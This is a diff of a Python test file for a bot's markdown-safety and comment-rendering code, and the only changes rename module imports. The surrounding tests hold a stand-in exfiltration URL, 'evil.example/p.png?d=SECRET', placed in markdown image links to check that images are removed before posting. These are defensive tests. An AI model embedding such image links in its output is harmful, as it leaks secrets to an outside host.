@@ -13,8 +13,8 @@ from html.parser import HTMLParser
 import pytest
 from markdown_it import MarkdownIt
 
-from bot.github.markdown_safety import GITHUB_HOSTS, fetched_resources, neutralize, url_allowed
-from bot.github.render import FileDiff, RunReport, finalize, render_progress, render_result
+from bot.orchestration.markdown_safety import GITHUB_HOSTS, fetched_resources, neutralize, url_allowed
+from bot.orchestration.render import FileDiff, RunReport, finalize, render_progress, render_result
 
 EVIL = "https://evil.example/p.png?d=SECRET"
 
@@ -211,7 +211,7 @@ def test_a_removed_image_cannot_turn_the_next_bracket_into_an_image() -> None:
 
 
 def test_what_the_rewriter_misses_is_escaped_before_posting(monkeypatch: pytest.MonkeyPatch) -> None:
-    import bot.github.markdown_safety as safety
+    import bot.orchestration.markdown_safety as safety
 
     monkeypatch.setattr(safety, "_pass", lambda text, hosts: text)  # a rewriter that sees nothing
     for description, markdown in ATTACKS:
@@ -240,7 +240,7 @@ def test_the_result_comment_removes_images_from_the_summary_but_not_from_diffs()
 
 
 def test_the_progress_comment_removes_images_from_todos() -> None:
-    from bot.github.render import TodoView
+    from bot.orchestration.render import TodoView
 
     text = render_progress("Working…", todos=(TodoView(f"look at ![x]({EVIL})", "pending"),))
     assert "SECRET" not in text
